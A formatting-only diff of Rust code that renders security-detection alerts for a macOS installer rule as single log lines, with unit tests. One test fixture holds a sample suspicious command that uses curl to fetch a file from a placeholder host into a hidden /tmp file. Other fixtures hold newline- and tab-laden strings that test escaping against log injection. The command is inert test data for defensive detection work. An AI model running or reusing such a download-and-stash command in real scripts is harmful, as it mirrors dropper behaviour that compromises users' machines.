@@ -55,17 +55,11 @@ pub fn compact_line(meta: &RuleMeta, events: &[SourceEvent]) -> String {
 
     let time = docs
         .first()
-        .and_then(|doc| {
-            normalized_time(doc, "@timestamp")
-                .or_else(|| text(doc, "@timestamp").map(|raw| plain(&raw)))
-        })
+        .and_then(|doc| normalized_time(doc, "@timestamp").or_else(|| text(doc, "@timestamp").map(|raw| plain(&raw))))
         .unwrap_or_else(|| "-".to_owned());
     let host_name = docs.iter().find_map(|doc| text(doc, "host.name"));
     let host_id = docs.iter().find_map(|doc| text(doc, "host.id"));
-    let mut host = format!(
-        "host={}",
-        host_name.as_deref().map_or_else(|| "-".to_owned(), plain)
-    );
+    let mut host = format!("host={}", host_name.as_deref().map_or_else(|| "-".to_owned(), plain));
     if let Some(id) = host_id {
         host.push_str(&format!(" ({})", plain(&id)));
     }
@@ -79,13 +73,7 @@ pub fn compact_line(meta: &RuleMeta, events: &[SourceEvent]) -> String {
         .collect();
     let ids: Vec<String> = parsed.iter().map(|(_, id)| plain(id)).collect();
 
-    format!(
-        "{time} {} {} {host} | {} | events={}",
-        plain(&meta.severity),
-        quoted(&meta.name),
-        steps.join(" → "),
-        ids.join(",")
-    )
+    format!("{time} {} {} {host} | {} | events={}", plain(&meta.severity), quoted(&meta.name), steps.join(" → "), ids.join(","))
 }
 
 /// `name[action] detail` for one event.
@@ -104,8 +92,7 @@ fn step(doc: &Document) -> String {
     } else {
         None
     };
-    let detail =
-        detail.or_else(|| text(doc, "process.command_line").map(|line| quoted(&shorten(&line))));
+    let detail = detail.or_else(|| text(doc, "process.command_line").map(|line| quoted(&shorten(&line))));
     if let Some(detail) = detail {
         out.push(' ');
         out.push_str(&detail);
@@ -115,9 +102,7 @@ fn step(doc: &Document) -> String {
 
 /// `ip:port` (`[ip]:port` for IPv6), the address alone without a port.
 fn destination(doc: &Document) -> Option<String> {
-    let address = text(doc, "destination.ip")
-        .or_else(|| text(doc, "destination.address"))
-        .or_else(|| text(doc, "destination.domain"))?;
+    let address = text(doc, "destination.ip").or_else(|| text(doc, "destination.address")).or_else(|| text(doc, "destination.domain"))?;
     let address = plain(&address);
     Some(match text(doc, "destination.port") {
         Some(port) if address.contains(':') => format!("[{address}]:{}", plain(&port)),
@@ -164,15 +149,7 @@ fn plain(text: &str) -> String {
     if !text.chars().any(char::is_control) {
         return text.to_owned();
     }
-    text.chars()
-        .map(|c| {
-            if c.is_control() {
-                c.escape_default().to_string()
-            } else {
-                c.to_string()
-            }
-        })
-        .collect()
+    text.chars().map(|c| if c.is_control() { c.escape_default().to_string() } else { c.to_string() }).collect()
 }
 
 #[cfg(test)]
@@ -180,11 +157,7 @@ mod tests {
     use super::*;
 
     fn meta() -> RuleMeta {
-        RuleMeta {
-            name: "MacOS Installer Package Spawns Network Event".into(),
-            severity: "medium".into(),
-            ..RuleMeta::default()
-        }
+        RuleMeta { name: "MacOS Installer Package Spawns Network Event".into(), severity: "medium".into(), ..RuleMeta::default() }
     }
 
     const SHELL: &str = r#"{"@timestamp":"2026-11-02T09:14:03.1204567Z","event":{"id":"Nq3kP0xYzL5tR8uW+++++A7f","category":["process"],"type":["start"],"action":"exec"},"host":{"id":"4C4C4544-0042","name":"mac-17"},"process":{"name":"bash","command_line":"bash -c curl -fsSL https://example.com/x -o /tmp/.x"}}"#;
@@ -192,16 +165,7 @@ mod tests {
 
     #[test]
     fn sequence_line() {
-        let events = [
-            SourceEvent {
-                raw: SHELL.as_bytes(),
-                stage: 0,
-            },
-            SourceEvent {
-                raw: CURL.as_bytes(),
-                stage: 1,
-            },
-        ];
+        let events = [SourceEvent { raw: SHELL.as_bytes(), stage: 0 }, SourceEvent { raw: CURL.as_bytes(), stage: 1 }];
         assert_eq!(
             compact_line(&meta(), &events),
             "2026-11-02T09:14:03.120Z medium \"MacOS Installer Package Spawns Network Event\" \
@@ -216,14 +180,7 @@ mod tests {
         let file = br#"{"@timestamp":"2026-11-02T09:14:05Z","event.id":"F1","event.category":"file","event.action":["creation"],"process.name":"curl","file.path":"/tmp/.x"}"#;
         let dns = br#"{"event":{"id":"D1","category":"network","action":["lookup_requested","lookup_result"]},"process":{"name":"curl"},"dns":{"question":{"name":"example.com"}}}"#;
         let v6 = br#"{"event":{"id":"N6","category":"network"},"destination":{"ip":"2606:2800::1","port":443}}"#;
-        let events = [
-            SourceEvent {
-                raw: file,
-                stage: 0,
-            },
-            SourceEvent { raw: dns, stage: 1 },
-            SourceEvent { raw: v6, stage: 2 },
-        ];
+        let events = [SourceEvent { raw: file, stage: 0 }, SourceEvent { raw: dns, stage: 1 }, SourceEvent { raw: v6, stage: 2 }];
         assert_eq!(
             compact_line(&meta(), &events),
             "2026-11-02T09:14:05.000Z medium \"MacOS Installer Package Spawns Network Event\" host=- \
@@ -235,16 +192,8 @@ mod tests {
     #[test]
     fn hostile_strings_stay_on_one_line() {
         let long = "x".repeat(500);
-        let raw = format!(
-            r#"{{"event":{{"id":"E\nX"}},"host":{{"name":"evil\nhost"}},"process":{{"name":"a\tb","command_line":"echo \"hi\"\n{long}"}}}}"#
-        );
-        let line = compact_line(
-            &meta(),
-            &[SourceEvent {
-                raw: raw.as_bytes(),
-                stage: 0,
-            }],
-        );
+        let raw = format!(r#"{{"event":{{"id":"E\nX"}},"host":{{"name":"evil\nhost"}},"process":{{"name":"a\tb","command_line":"echo \"hi\"\n{long}"}}}}"#);
+        let line = compact_line(&meta(), &[SourceEvent { raw: raw.as_bytes(), stage: 0 }]);
         assert!(!line.contains('\n') && !line.contains('\t'), "{line}");
         assert!(line.contains(r"host=evil\nhost"), "{line}");
         assert!(line.contains(r#"a\tb "echo \"hi\"\nxxx"#), "{line}");
@@ -258,9 +207,6 @@ mod tests {
         let line = compact_line(&meta(), &[SourceEvent { raw, stage: 0 }]);
         let id = event_identity(&Value::Null, raw).0;
         assert!(id.starts_with("sha256-"));
-        assert_eq!(
-            line,
-            format!("- medium \"MacOS Installer Package Spawns Network Event\" host=- | <unparsable event> | events={id}")
-        );
+        assert_eq!(line, format!("- medium \"MacOS Installer Package Spawns Network Event\" host=- | <unparsable event> | events={id}"));
     }
 }
